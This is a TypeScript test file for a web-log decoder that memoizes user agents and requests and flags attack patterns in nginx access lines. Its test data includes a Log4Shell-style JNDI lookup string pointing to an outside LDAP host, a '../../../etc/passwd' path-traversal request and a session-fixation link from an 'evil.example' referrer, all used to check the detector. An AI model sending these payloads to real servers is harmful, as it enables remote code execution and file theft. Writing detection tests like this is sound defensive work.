/** What is remembered must read like one cut afresh, and never stand in for another. */
import { expect, test } from 'vitest';
import { createDecode } from '../decode.ts';
import { createMemo } from './memo.ts';

const { decode } = createDecode({ timezone: 'UTC', program: 'nginx' });
const line = (agent: string): string =>
  `192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 12 "-" "${agent}"`;
const plain = 'Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0';

test('an agent is the same the first and every later time, also when one is the beginning of another', () => {
  for (const agent of [plain, `${plain}0`, plain, plain.slice(0, -1), `${plain} (compatible)`, plain, `${plain}0`])
    for (let n = 0; n < 3; n++) expect(decode(line(agent), 0)?.fields['user_agent.original']).toBe(agent);
});

test('an agent that carries an attack is judged each time, also behind a harmless beginning', () => {
  const attack = `${plain} ${'$'}{jndi:ldap://192.0.2.1/a}`;
  for (const agent of [plain, attack, plain, attack])
    expect(decode(line(agent), 0)?.fields['threat.web'], agent).toEqual(agent === attack ? ['jndi'] : undefined);
});

test('a remembered request does not decide alone: who linked to it and whose site it is are looked at each time', () => {
  const from = (referrer: string, site = ''): unknown =>
    decode(
      `${site}192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "GET /?PHPSESSID=4f1c HTTP/1.1" 200 12 "${referrer}" "${plain}"`,
      0,
    )?.fields['threat.web'];
  for (let n = 0; n < 3; n++) {
    expect(from('https://evil.example/')).toEqual(['session-fixation']);
    expect(from('-')).toBeUndefined();
    expect(from('https://shop.example/?PHPSESSID=4f1c')).toBeUndefined();
    expect(from('https://shop.example/', 'shop.example:443 ')).toBeUndefined();
    expect(from('https://evil.example/', 'shop.example:443 ')).toEqual(['session-fixation']);
  }
});

test('request, referrer and agent each add what they show, once, in this order', () => {
  const attack = '../../../etc/passwd';
  const line = (request: string, referrer: string, agent: string): unknown =>
    decode(`192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "${request}" 404 12 "${referrer}" "${agent}"`, 0)?.fields[
      'threat.web'
    ];
  const jndi = `${'$'}{jndi:ldap://192.0.2.1/a}`;
  for (let n = 0; n < 3; n++) {
    expect(line(`GET /${attack} HTTP/1.1`, '-', plain)).toEqual(['path-traversal']);
    expect(line(`GET /${attack} HTTP/1.1`, jndi, attack)).toEqual(['path-traversal', 'jndi', 'command-injection']);
    expect(line('GET / HTTP/1.1', attack, jndi)).toEqual(['jndi', 'command-injection', 'path-traversal']);
    expect(line('GET / HTTP/1.1', '-', plain)).toBeUndefined();
  }
});

test('what comes again is remembered from the second time on, bounded in number and in length', () => {
  let made = 0;
  const memo = createMemo(100, (text, kept) => ({ text, kept, number: made++ }));
  const of = (text: string): { text: string; kept: boolean; number: number } => memo(`(${text})`, 1, text.length + 1);
  expect(of('one').kept).toBe(false);
  const second = of('one');
  expect(second).toEqual({ text: 'one', kept: true, number: 1 });
  expect(of('one')).toBe(second);
  for (let n = 0; n < 20_000; n++) expect(of(`other ${n}`).text).toBe(`other ${n}`);
  // What came once pushes out nothing.
  expect(of('one')).toBe(second);
  for (let n = 0; n < 20_000; n++) for (let times = 0; times < 2; times++) of(`twice ${n}`);
  const before = made;
  for (let n = 0; n < 20_000; n++) of(`twice ${n}`);
  expect(made - before).toBeGreaterThanOrEqual(20_000 - 4096);
  of('');
  expect(of('')).toMatchObject({ text: '', kept: true });
  const long = 'x'.repeat(101);
  for (let times = 0; times < 3; times++) expect(of(long).kept).toBe(false);
});

test('events say what they share only where their request and sender are remembered', () => {
  const alike = (request: string, agent: string, site = ''): object | undefined =>
    decode(`${site}192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "GET ${request} HTTP/1.1" 200 12 "-" "${agent}"`, 0)
      ?.alike;
  expect(alike('/shared', 'shared/1')).toBeUndefined();
  const shared = alike('/shared', 'shared/1');
  expect(shared).toBeDefined();
  expect(alike('/shared', 'shared/1')).toEqual(shared);
  expect(alike('/never before', 'shared/1')).toBeUndefined();
  expect(alike('/shared', 'never before')).toBeUndefined();
  for (let n = 0; n < 3; n++) {
    // Whether this is an attack depends on the site's name, which is no part of what is shared.
    expect(alike('/?sid=1', 'shared/1', 'shop.example:443 ')).toBeUndefined();
    expect(
      decode(
        JSON.stringify({
          message: `192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "GET /shared HTTP/1.1" 200 12 "-" "shared/1"`,
          'cs-method': 'PUT',
        }),
        0,
      )?.alike,
    ).toBeUndefined();
  }
});
